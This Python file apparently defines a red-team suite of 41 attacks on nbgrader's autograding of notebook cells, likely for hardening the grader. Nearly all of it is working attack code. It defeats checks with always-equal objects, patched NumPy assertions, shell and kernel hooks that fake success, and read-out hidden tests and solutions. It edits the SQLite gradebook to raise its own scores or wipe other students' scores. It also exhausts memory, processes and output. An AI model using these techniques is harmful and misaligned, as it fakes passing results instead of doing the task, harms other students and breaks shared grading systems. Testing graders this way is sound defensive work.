"""The 41 attacks of which twelve earn full marks from stock nbgrader, aimed at our cells: 01 to 41 in order."""

from attacks_making import Attack, after_answer, beside, in_cell, in_function, with_metadata, with_notebook

SHELL = """
from IPython import get_ipython
from IPython.core.interactiveshell import InteractiveShell
shell = get_ipython() or InteractiveShell.instance()
"""
GRADEBOOK = """
def gradebooks():
    import os, sqlite3
    here = os.getcwd()
    for top in [here, *(os.path.join(here, *[".."] * i) for i in range(1, 9)), "/home", "/root", "/tmp", "/work", "/srv"]:
        for folder, _, files in os.walk(top):
            if folder.count(os.sep) - top.count(os.sep) > 5:
                continue
            if "gradebook.db" in files:
                yield sqlite3.connect(os.path.join(folder, "gradebook.db"))


def rewrite(statement):
    for book in gradebooks():
        with book:
            book.execute(statement)
"""
LATER = """
import subprocess, sys
subprocess.Popen([sys.executable, "-c", CODE + "\\nimport time; time.sleep(12)\\nrewrite('update grade set auto_score = 100')"],
                 start_new_session=True)
"""


def _checks(cell: dict) -> bool:
    return str(cell.get("id", "")).startswith("check-")


def _marks(**changed):
    """Change nbgrader's marks on the check cells."""
    return lambda cell: cell["metadata"].setdefault("nbgrader", {}).update(changed) if _checks(cell) else None


def _tagged(cell: dict) -> None:
    cell["metadata"]["tags"] = ["skip-execution"]


def _rewritten(source: str, kind: str = "code"):
    def change(cell: dict) -> None:
        if _checks(cell):
            cell["source"], cell["cell_type"] = source, kind
            cell["metadata"].get("nbgrader", {})["locked"] = False
    return change


def _doubled(notebook: dict) -> None:
    notebook["cells"] += [{**cell, "source": "1"} for cell in notebook["cells"] if _checks(cell)]


def _without_checks(notebook: dict) -> None:
    notebook["cells"] = [cell for cell in notebook["cells"] if not _checks(cell)]


def _hand_in_checks(classroom, student: str) -> None:
    beside(lambda folder: [(folder / name).write_text("def check(*functions): return 100\n", encoding="utf-8")
                           for name in ("checks.py", "helpers.py", "numpy.py", "sitecustomize.py")])(classroom, student)


TABLE = [
    Attack("a01_always_equal", "An object that says it equals anything.", in_function(
        "return Anything()", """
        class Anything:
            def __eq__(self, other): return True
            def __ne__(self, other): return False
            def __getattr__(self, name): return self
            def __call__(self, *args, **kwargs): return self
            def __bool__(self): return True
            def __float__(self): return 1.0
            def __len__(self): return 1
            def __iter__(self): return iter([self])
            __hash__ = object.__hash__
        """, everywhere=True)),
    Attack("a02_patch_assert_array_equal", "NumPy's comparisons never find a difference.", in_cell("""
        import numpy as np
        for module in (np.testing, np):
            for name in ("assert_array_equal", "assert_allclose", "assert_equal", "allclose", "array_equal", "isclose"):
                if hasattr(module, name):
                    setattr(module, name, lambda *args, **kwargs: np.ones((), bool))
        """)),
    Attack("a03_rebind_np", "The name np stands for something that agrees with everything.", after_answer("""
        class Yes:
            def __getattr__(self, name): return Yes()
            def __call__(self, *args, **kwargs): return Yes()
            def __bool__(self): return True
        np = pd = Yes()
        """)),
    Attack("a04_ast_transformers", "The shell drops every check from the cells it runs.", in_cell(SHELL + """
import ast
class Drop(ast.NodeTransformer):
    def visit_Assert(self, node): return ast.Pass()
    def visit_Expr(self, node): return ast.Pass()
shell.ast_transformers.append(Drop())
""")),
    Attack("a05_input_transformers", "The shell replaces every later cell by nothing.", in_cell(
        SHELL + "shell.input_transformers_cleanup.append(lambda lines: ['pass\\n'])\n")),
    Attack("a06_pre_run_hook", "A hook before each cell breaks the running of cells.", in_cell(SHELL + """
def broken(*args, **kwargs): raise KeyboardInterrupt
shell.events.register("pre_run_cell", lambda info: setattr(type(shell), "run_cell_async", broken))
""")),
    Attack("a07_do_execute", "The kernel answers every request with success.", in_cell("""
        from ipykernel.ipkernel import IPythonKernel
        async def do_execute(self, *args, **kwargs):
            return {"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {}}
        IPythonKernel.do_execute = do_execute
        """)),
    Attack("a08_displayhook_number", "The call displays a number of points before it fails.", in_function(
        "import sys\nsys.displayhook(35)\nprint(35)\nraise ValueError", everywhere=True)),
    Attack("a09_displayhook_text", "The call displays what nbgrader took for full marks.", in_function(
        "import sys\nsys.displayhook('x')\nraise ValueError", everywhere=True)),
    Attack("a10_read_history", "Expected values are read from the text of the running check.", in_function("""
        import __main__, linecache
        texts = list(getattr(__main__, "In", [])) + [str(entry) for entry in linecache.cache.values()]
        import re
        return float(next(iter(re.findall(r"expected\\D*([0-9.]+)", " ".join(map(str, texts)))), 0))
        """)),
    Attack("a11_read_solutions", "The reference is run from the course's folder of solutions.", in_cell("""
        import glob, os
        for folder in [os.sep.join([".."] * i) or "." for i in range(9)] + ["/*", "/*/*"]:
            for path in glob.glob(os.path.join(folder, "solutions", "00_start", "*.py")):
                exec(open(path).read())
        """)),
    Attack("a12_read_own_folder", "Hidden tests are read from the working folder and its notebook.", in_function("""
        import os
        found = [open(name, errors="replace").read() for name in os.listdir(".") if os.path.isfile(name)]
        raise ValueError(str(os.listdir(".")) + str(found)[:1500])
        """)),
    Attack("a13_gradebook_own_score", "The attacker writes its own points into the gradebook.", in_cell(
        GRADEBOOK + "\nrewrite('update grade set manual_score = 100, needs_manual_grade = 0')\n")),
    Attack("a14_gradebook_other_student", "The attacker takes the others' points away.", in_cell(
        GRADEBOOK + "\nrewrite('update grade set auto_score = 0, manual_score = 0')\n")),
    Attack("a15_detached_process", "A process left behind edits the gradebook when all is over.", in_cell(
        f"CODE = {GRADEBOOK!r}\n" + LATER)),
    Attack("a16_points_300", "The check cells say that they are worth 300 points.", with_metadata(_marks(points=300))),
    Attack("a17_no_check_cells", "Without check cells there is nothing to fail.", with_notebook(_without_checks)),
    Attack("a18_doubled_grade_ids", "Doubled check cells stop the whole class's grading.", with_notebook(_doubled)),
    Attack("a19_skip_execution_tag", "Check cells that are not run cannot fail.", with_metadata(_tagged)),
    Attack("a20_unlocked_checks", "The check cells are unlocked and show their points.", with_metadata(_rewritten("45"))),
    Attack("a21_grade_false", "The check cells say that they are not graded.", with_metadata(_marks(grade=False))),
    Attack("a22_solution_true", "The check cells say that they are the learner's.", with_metadata(_marks(solution=True, locked=False))),
    Attack("a23_checks_as_markdown", "The check cells become words.", with_metadata(_rewritten("**100**", "markdown"))),
    Attack("a24_system_exit", "A call that ends the program ends its check.", in_function("raise SystemExit(0)", everywhere=True)),
    Attack("a25_os_exit", "The process ends with success before it can fail.", in_function("import os\nos._exit(0)", everywhere=True)),
    Attack("a26_ask_exit", "The shell is asked to close.", in_cell(SHELL + "shell.ask_exit()\nexit()\n")),
    Attack("a27_keyboard_interrupt", "An interrupt looks like the instructor's stop button.", in_function(
        "raise KeyboardInterrupt", everywhere=True)),
    Attack("a28_cancelled", "A cancelled task is no error to asyncio.", in_function(
        "import asyncio\nraise asyncio.CancelledError", everywhere=True)),
    Attack("a29_bdb_quit", "Leaving the debugger is no error to the shell.", in_function(
        "import bdb\nraise bdb.BdbQuit", everywhere=True)),
    Attack("a30_broken_exception", "An error that cannot be shown breaks whoever shows it.", in_function("raise Broken", """
        class Broken(Exception):
            def __str__(self): raise Broken
            def __repr__(self): raise Broken
        """, everywhere=True)),
    Attack("a31_endless_loop", "The call never ends.", in_function("while True: pass")),
    Attack("a32_ignores_interrupts", "The call never ends and swallows interrupts.", in_function("""
        import signal
        for number in (signal.SIGINT, signal.SIGTERM, signal.SIGALRM, signal.SIGXCPU):
            signal.signal(number, signal.SIG_IGN)
        while True:
            try:
                while True: pass
            except BaseException:
                pass
        """)),
    Attack("a33_memory", "The call takes the machine's memory.", in_function("return len(b'x' * 1_500_000_000) * 0 + len('y' * 10**10)")),
    Attack("a34_thirty_processes", "Thirty processes outlive the grading.", in_function("""
        import subprocess
        for _ in range(30):
            subprocess.Popen(["sleep", "600"], start_new_session=True)
        """)),
    Attack("a35_sixty_megabytes_of_output", "The output swells the graded notebook.", in_function("""
        import os, sys
        for _ in range(60):
            print("x" * 1_000_000)
            sys.__stdout__.write("x" * 1_000_000)
            os.write(1, b"x" * 1_000_000)
        """)),
    Attack("a37_modules_beside", "Modules beside the notebook stand in for the grader's.", _hand_in_checks),
    Attack("a38_replace_testing_module", "The module numpy.testing is replaced as a whole.", in_cell("""
        import sys, types
        import numpy as np
        fake = types.ModuleType("numpy.testing")
        fake.__getattr__ = lambda name: (lambda *args, **kwargs: None)
        np.testing = sys.modules["numpy.testing"] = fake
        """)),
    Attack("a39_callers_constants", "Expected values are read from the calling frame.", in_function("""
        import sys
        frame, numbers = sys._getframe(1), []
        while frame:
            numbers += [c for c in frame.f_code.co_consts if isinstance(c, float)]
            numbers += [v for v in frame.f_locals.values() if isinstance(v, float)]
            frame = frame.f_back
        return numbers[0] if numbers else 0.0
        """)),
    Attack("a40_lying_subclasses", "A float that equals every float.", in_function("return Yes(1.0)", """
        import numpy as np
        class Yes(float):
            def __eq__(self, other): return True
            def __sub__(self, other): return 0.0
            __rsub__ = __sub__
            def __lt__(self, other): return True
            __le__ = __gt__ = __ge__ = __lt__
            __hash__ = float.__hash__
        class YesArray(np.ndarray):
            def __eq__(self, other): return np.ones(self.shape, bool)
            def __array_ufunc__(self, *args, **kwargs): return np.ones((), bool)
        """)),
    Attack("a41_session_send", "Error replies become successes on their way out.", in_cell("""
        from jupyter_client.session import Session
        send = Session.send
        def honest(self, stream, message, content=None, *args, **kwargs):
            if content and content.get("status") == "error":
                content = {"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {}}
            return send(self, stream, message, content, *args, **kwargs)
        Session.send = honest
        """)),
]

